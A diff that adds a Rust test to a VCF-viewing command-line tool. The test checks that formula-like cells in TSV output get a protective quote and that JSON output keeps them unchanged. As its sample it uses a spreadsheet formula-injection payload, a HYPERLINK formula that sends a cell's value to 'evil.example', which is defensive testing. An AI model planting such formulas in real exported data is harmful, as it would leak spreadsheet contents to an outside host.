@@ -90,6 +90,34 @@ fn view_writes_one_row_per_alt_with_hgvs() {
 }
 
 #[test]
+fn view_tsv_cells_a_spreadsheet_would_run_get_a_quote_and_json_keeps_them_exact() {
+    let dir = std::env::temp_dir().join(format!("tolk-cli-formula-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("formula.vcf");
+    // No comma: it would end the CSQ entry.
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1)"#;
+    std::fs::write(
+        &path,
+        format!(
+            "##fileformat=VCFv4.2\n##INFO=<ID=CSQ,Number=.,Type=String,Description=\"Ensembl VEP. Format: Allele|Consequence|IMPACT|SYMBOL|HGVSc\">\n\
+             #CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\nchr1\t10\t.\tA\tG\t50\tPASS\tCSQ=G|missense_variant|MODERATE|{}|@SUM(1)\n",
+            formula
+        ),
+    )
+    .unwrap();
+    let out = tolk(&["view".as_ref(), path.as_os_str()]);
+    let text = String::from_utf8(out.stdout).unwrap();
+    let cells: Vec<&str> = text.lines().nth(1).unwrap().split('\t').collect();
+    assert_eq!(cells[4], format!("'{formula}"));
+    assert_eq!(cells[7], "'@SUM(1)");
+    assert_eq!(cells[5], "missense_variant", "ordinary values are untouched");
+    let out = tolk(&["view".as_ref(), "--format".as_ref(), "json".as_ref(), path.as_os_str()]);
+    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(rows[0]["gene"], formula);
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
 fn view_json_and_policy() {
     let args = ["view", "--format", "json", "--policy", "canonical"];
     let mut argv: Vec<&std::ffi::OsStr> = args.iter().map(|a| a.as_ref()).collect();
